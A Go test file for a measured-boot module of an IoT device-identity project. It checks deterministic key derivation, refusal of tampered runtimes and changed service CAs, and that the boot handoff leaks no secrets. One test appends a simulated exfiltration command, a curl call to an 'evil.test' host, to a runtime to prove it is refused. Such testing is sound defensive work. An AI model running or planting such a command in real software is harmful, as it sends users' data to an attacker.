package boot_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"errors"
	"math/big"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/rampart-iot/rampart/device/boot"
	"github.com/rampart-iot/rampart/device/handoff"
	"github.com/rampart-iot/rampart/device/rot"
	"github.com/rampart-iot/rampart/device/state"
	"github.com/rampart-iot/rampart/format/dice"
)

// testCA returns the PEM of a throwaway CA certificate.
func testCA(t *testing.T) []byte {
	t.Helper()
	k, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test service CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}

// newDevice initialises a device in a new folder with runtime as its factory image.
func newDevice(t *testing.T, runtime string) state.Dir {
	t.Helper()
	path := filepath.Join(t.TempDir(), "device")
	if _, err := boot.Init(path, boot.Factory{ServiceURL: "https://rampart.test:8443", ServiceCA: testCA(t),
		Runtime: strings.NewReader(runtime)}); err != nil {
		t.Fatal(err)
	}
	d, err := state.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// dumpHandoff is a stage 1 that copies its handoff to DIR/handoff.out ($3 is the state folder).
const dumpHandoff = "#!/bin/sh\ncat <&3 > \"$3/handoff.out\"\n"

// acceptAny is a Verifier that boots whatever is in the slot, as signed updates will for a
// runtime with a good signature.
type acceptAny struct{}

func (acceptAny) Verify(state.Dir, state.Slot, boot.Runtime) ([64]byte, error) {
	return boot.FactoryAuthority, nil
}

func aliasKey(t *testing.T, s *boot.Stage1) *ecdsa.PublicKey {
	t.Helper()
	defer s.Discard()
	c, err := x509.ParseCertificate(s.AliasCert)
	if err != nil {
		t.Fatal(err)
	}
	return c.PublicKey.(*ecdsa.PublicKey)
}

func TestBootIsDeterministic(t *testing.T) {
	t.Parallel()
	d := newDevice(t, "#!/bin/sh\nexit 0\n")
	first, err := boot.Measure(d, nil)
	if err != nil {
		t.Fatal(err)
	}
	second, err := boot.Measure(d, nil)
	if err != nil {
		t.Fatal(err)
	}
	k1, k2 := aliasKey(t, first), aliasKey(t, second)
	if !k1.Equal(k2) {
		t.Error("two boots of the same UDS and runtime gave different Alias keys")
	}
	if first.Measurements != second.Measurements || first.DeviceID != second.DeviceID {
		t.Error("two boots of the same UDS and runtime gave different measurements or device IDs")
	}
	wantCode := sha512.Sum512([]byte("#!/bin/sh\nexit 0\n"))
	if first.Measurements.Runtime != wantCode || first.Measurements.Mode != dice.ModeNormal ||
		first.Measurements.Authority != sha512.Sum512([]byte("rampart factory image")) {
		t.Errorf("measurements %+v: want the runtime's SHA-512, the factory authority and mode normal", first.Measurements)
	}
	dev, _ := d.ReadDevice()
	if first.Measurements.Config != dev.ConfigMeasurement() {
		t.Error("the config measurement is not the SHA-512 of device.json's canonical bytes")
	}

	// Another runtime: another Alias key, the same device.
	if err := os.WriteFile(d.Runtime(state.SlotA), []byte("#!/bin/sh\nexit 1\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	other, err := boot.Measure(d, acceptAny{})
	if err != nil {
		t.Fatal(err)
	}
	if aliasKey(t, other).Equal(k1) {
		t.Error("another runtime got the same Alias key")
	}
	if other.DeviceID != first.DeviceID {
		t.Error("another runtime changed the device ID")
	}

	// Another service: another configuration, another Alias key.
	dev.ServiceURL = "https://elsewhere.test"
	if err := d.WriteDevice(dev); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(d.Runtime(state.SlotA), []byte("#!/bin/sh\nexit 0\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	moved, err := boot.Measure(d, nil)
	if err != nil {
		t.Fatal(err)
	}
	if aliasKey(t, moved).Equal(k1) {
		t.Error("another service URL gave the same Alias key")
	}
}

// TestTamperedStage1RefusesToBoot changes the runtime in slot A after init: stage 0 must
// refuse to boot it, with an alarm, and never start it.
func TestTamperedStage1RefusesToBoot(t *testing.T) {
	t.Parallel()
	const runtime = "#!/bin/sh\ntouch \"$3/started\"\n"
	genuine := newDevice(t, runtime)
	if code, err := boot.Run(genuine, nil, nil, os.Stdout, os.Stderr); err != nil || code != 0 {
		t.Fatalf("the genuine runtime: exit %d, %v", code, err)
	}
	if _, err := os.Stat(genuine.Path("started")); err != nil {
		t.Fatal("the genuine runtime did not run, so this test could not see a tampered one run")
	}

	d := newDevice(t, runtime)
	f, err := os.OpenFile(d.Runtime(state.SlotA), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("curl https://evil.test/exfiltrate\n")
	f.Close()

	code, err := boot.Run(d, nil, nil, os.Stdout, os.Stderr)
	if !errors.Is(err, boot.ErrUntrustedRuntime) || !errors.Is(err, boot.ErrAlarm) {
		t.Fatalf("boot of a tampered runtime: %v, want ErrUntrustedRuntime of class ErrAlarm", err)
	}
	if code == 0 {
		t.Error("boot of a tampered runtime exited 0")
	}
	if !strings.Contains(err.Error(), "not the factory image") {
		t.Errorf("error %q does not say what is wrong", err)
	}
	if _, err := os.Stat(d.Path("started")); err == nil {
		t.Error("stage 0 started a tampered runtime")
	}
}

func TestBootRefusesChangedServiceCA(t *testing.T) {
	t.Parallel()
	d := newDevice(t, dumpHandoff)
	if err := os.WriteFile(d.Path(state.FileServiceCA), testCA(t), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := boot.Measure(d, nil); !errors.Is(err, boot.ErrAlarm) {
		t.Fatalf("boot with a replaced service CA: %v, want ErrAlarm", err)
	}
}

// TestHandoffCarriesNoUDS reads what stage 0 really sends stage 1 and looks for the UDS and the
// DeviceID private scalar in it, raw and in every encoding JSON might give them.
func TestHandoffCarriesNoUDS(t *testing.T) {
	t.Parallel()
	d := newDevice(t, dumpHandoff)
	if code, err := boot.Run(d, nil, nil, os.Stdout, os.Stderr); err != nil || code != 0 {
		t.Fatalf("boot: exit %d, %v", code, err)
	}
	raw, err := os.ReadFile(d.Path("handoff.out"))
	if err != nil {
		t.Fatal(err)
	}
	uds, err := rot.LoadUDS(d.Path(state.FileUDS))
	if err != nil {
		t.Fatal(err)
	}
	deviceKey, _ := rot.DeviceIDKey(uds)
	scalar, err := deviceKey.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	h, err := handoff.Read(bytes.NewReader(raw))
	if err != nil {
		t.Fatalf("the handoff stage 0 sent does not parse: %v", err)
	}

	occurs := func(secret []byte) bool {
		forms := [][]byte{secret, []byte(hex.EncodeToString(secret)), []byte(base64.StdEncoding.EncodeToString(secret)),
			[]byte(base64.RawStdEncoding.EncodeToString(secret))}
		for _, f := range forms {
			if bytes.Contains(raw, f) {
				return true
			}
			for _, field := range [][]byte{h.CDIAttest, h.CDISeal, h.AliasCert, h.DeviceIDKey} {
				if bytes.Contains(field, f) {
					return true
				}
			}
		}
		return false
	}
	if occurs(uds) {
		t.Error("the handoff carries the UDS")
	}
	if occurs(scalar) {
		t.Error("the handoff carries the DeviceID private key")
	}

	// The search can find a secret: the CDI that must be there is found.
	dev, _ := d.ReadDevice()
	in := rot.Inputs{Code: sha512.Sum512([]byte(dumpHandoff)), Config: dev.ConfigMeasurement(),
		Authority: boot.FactoryAuthority, Mode: rot.ModeNormal}
	cdi := rot.CDIAttest(uds, in)
	if !occurs(cdi[:]) {
		t.Error("the handoff does not carry the expected CDI_Attest, or the search cannot find a secret")
	}
}

func TestRunPassesExitCodeAndArgs(t *testing.T) {
	t.Parallel()
	d := newDevice(t, "#!/bin/sh\necho \"$@\" > \"$3/args\"\nexit 7\n")
	code, err := boot.Run(d, nil, []string{"--once"}, os.Stdout, os.Stderr)
	if err != nil || code != 7 {
		t.Fatalf("exit %d, %v; want 7", code, err)
	}
	b, _ := os.ReadFile(d.Path("args"))
	if got, want := strings.TrimSpace(string(b)), "stage1 --state "+string(d)+" --once"; got != want {
		t.Errorf("stage 1 got args %q, want %q", got, want)
	}
}

func TestRunForwardsSIGTERM(t *testing.T) {
	// Not parallel: it signals the test process, which boot.Run catches and forwards.
	d := newDevice(t, "#!/bin/sh\ntrap 'echo stopped > \"$3/stopped\"; exit 0' TERM\n"+
		"touch \"$3/ready\"\nwhile :; do sleep 0.05; done\n")
	go func() {
		for {
			if _, err := os.Stat(d.Path("ready")); err == nil {
				syscall.Kill(os.Getpid(), syscall.SIGTERM)
				return
			}
			time.Sleep(10 * time.Millisecond)
		}
	}()
	code, err := boot.Run(d, nil, nil, os.Stdout, os.Stderr)
	if err != nil || code != 0 {
		t.Fatalf("exit %d, %v; want 0 after a forwarded SIGTERM", code, err)
	}
	if _, err := os.Stat(d.Path("stopped")); err != nil {
		t.Error("stage 1 did not receive SIGTERM")
	}
}

func TestInitRefusesExistingDevice(t *testing.T) {
	t.Parallel()
	d := newDevice(t, "runtime")
	before, _ := os.ReadFile(d.Path(state.FileUDS))
	_, err := boot.Init(string(d), boot.Factory{ServiceURL: "https://other.test", ServiceCA: testCA(t), Runtime: strings.NewReader("x")})
	if !errors.Is(err, boot.ErrInitialised) {
		t.Fatalf("second init: %v, want ErrInitialised", err)
	}
	after, _ := os.ReadFile(d.Path(state.FileUDS))
	if !bytes.Equal(before, after) {
		t.Error("a refused init changed the UDS")
	}
	if dev, _ := d.ReadDevice(); dev.ServiceURL != "https://rampart.test:8443" {
		t.Error("a refused init changed device.json")
	}
}

func TestInitLayout(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "device")
	id, err := boot.Init(path, boot.Factory{ServiceURL: "https://rampart.test/", ServiceCA: testCA(t), Runtime: strings.NewReader("rt")})
	if err != nil {
		t.Fatal(err)
	}
	modes := map[string]os.FileMode{"": 0o700, "uds": 0o600, "device.json": 0o600, "service-ca.pem": 0o600,
		"boot.json": 0o600, "slots/a/runtime": 0o700}
	for name, want := range modes {
		fi, err := os.Stat(filepath.Join(path, name))
		if err != nil {
			t.Error(err)
			continue
		}
		if got := fi.Mode().Perm(); got != want {
			t.Errorf("%s has mode %04o, want %04o", name, got, want)
		}
	}
	if _, err := os.Stat(filepath.Join(path, "uds.new")); err == nil {
		t.Error("init left uds.new behind")
	}
	d, _ := state.Open(path)
	if got, err := boot.DeviceID(d); err != nil || got != id {
		t.Errorf("DeviceID = %s, %v; init said %s", got, err, id)
	}
	dev, _ := d.ReadDevice()
	if dev.DeviceID != id || dev.ServiceURL != "https://rampart.test" {
		t.Errorf("device.json = %+v", dev)
	}
	bc, _ := d.ReadBoot()
	if bc.Active != state.SlotA || bc.Factory[state.SlotA] != sha512.Sum512([]byte("rt")) {
		t.Errorf("boot.json = %+v: want slot a with the runtime's SHA-512 pinned", bc)
	}
}

func TestInitRefusesForeignFolder(t *testing.T) {
	t.Parallel()
	path := t.TempDir()
	os.WriteFile(filepath.Join(path, "thesis.tex"), []byte("precious"), 0o644)
	_, err := boot.Init(path, boot.Factory{ServiceURL: "https://rampart.test", ServiceCA: testCA(t), Runtime: strings.NewReader("rt")})
	if err == nil || !strings.Contains(err.Error(), "not a device's") {
		t.Fatalf("init in a folder of other files: %v, want a refusal", err)
	}
}
